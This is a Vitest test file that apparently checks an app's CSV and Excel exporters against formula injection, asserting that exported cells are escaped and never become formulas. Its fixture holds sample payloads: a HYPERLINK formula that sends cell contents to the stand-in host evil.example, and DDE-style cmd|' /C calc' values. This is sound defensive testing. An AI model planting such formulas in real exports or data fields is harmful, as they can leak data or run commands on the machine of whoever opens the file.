import { describe, expect, it } from 'vitest';
import * as XLSX from 'xlsx';
import { csvText, toCsv, toXlsx, type ExportTable } from '../../src/resources/exporters.ts';

/**
 * CSV injection (issue 24): a value a user typed becomes a cell of every export, and a spreadsheet
 * runs a cell that reads as a formula when the file is opened. No export cell is ever a formula;
 * negative numbers stay numbers.
 */
const attack = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
const table: ExportTable = {
  title: 'Vehicles',
  headers: ['Name', 'Phone', 'Note', 'Balance', 'Change', 'Count'],
  rows: [
    [attack, '+919876543210', "@SUM(1+1)*cmd|' /C calc'!A0", '-5', '-1,234.50', '365'],
    ["-2+3+cmd|' /C calc'!A0", '\t=1+1', '\r=1+1', '-0.5', '-4.5%', '0'],
    ['=1+1\nsecond line', 'plain', 'a=b', '-', '12.50', '-1e3'],
  ],
};

/** One file of the .xlsx (a zip) as text. */
function xlsxPart(bytes: Uint8Array, name: string): string {
  const zip = XLSX.CFB.read(bytes, { type: 'array' });
  const entry = zip.FileIndex[zip.FullPaths.findIndex((path: string) => path.endsWith(name))];
  return new TextDecoder().decode(entry!.content as Uint8Array);
}

describe('exports are not a weapon', () => {
  it('leads every CSV text a spreadsheet reads as a formula with a single quote, a vehicle named =HYPERLINK(...) first', async () => {
    const rows = (await (await toCsv(table)).text()).split('\r\n');
    expect(rows[1]).toBe(
      `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")","'+919876543210","'@SUM(1+1)*cmd|' /C calc'!A0",-5,"-1,234.50",365`,
    );
    expect(rows[2]).toBe(`"'-2+3+cmd|' /C calc'!A0","'\t=1+1","'\r=1+1",-0.5,-4.5%,0`);
    // a formula with a second line is still a formula (papaparse's own pattern misses it)
    expect(rows.slice(3).join('\r\n')).toBe(`"'=1+1\nsecond line",plain,a=b,"'-",12.50,"'-1e3"`);
    // negative numbers stay as they are, so a spreadsheet still reads and sums them as numbers
    const text = await csvText({ headers: ['Amount'], rows: [['-5'], ['-12.50'], ['-1,00,000'], ['7']] });
    expect(text).toBe('Amount\r\n-5\r\n-12.50\r\n"-1,00,000"\r\n7');
  });

  it('writes every Excel cell as a shared string (t="s"), never a formula, with its exact text', async () => {
    const bytes = new Uint8Array(await (await toXlsx(table)).arrayBuffer());
    const sheetXml = xlsxPart(bytes, 'xl/worksheets/sheet1.xml');
    expect(sheetXml).not.toMatch(/<f[ >]/);
    expect(sheetXml.match(/<c [^>]*>/g)!.every((cell) => cell.includes(' t="s"'))).toBe(true);
    expect(xlsxPart(bytes, 'xl/sharedStrings.xml')).toContain(
      '<t>=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1,&quot;Click me&quot;)</t>',
    );
    const sheet = XLSX.read(bytes, { type: 'array', cellFormula: true }).Sheets.Sheet1!;
    expect(sheet.A2).toMatchObject({ t: 's', v: attack });
    expect(sheet.A2!.f).toBeUndefined();
    expect(sheet.A3).toMatchObject({ t: 's', v: "-2+3+cmd|' /C calc'!A0" });
    expect(sheet.B2).toMatchObject({ t: 's', v: '+919876543210' });
    // a number keeps the text the list shows, as the Excel export has always written it
    expect(sheet.D2).toMatchObject({ t: 's', v: '-5' });
  });
});
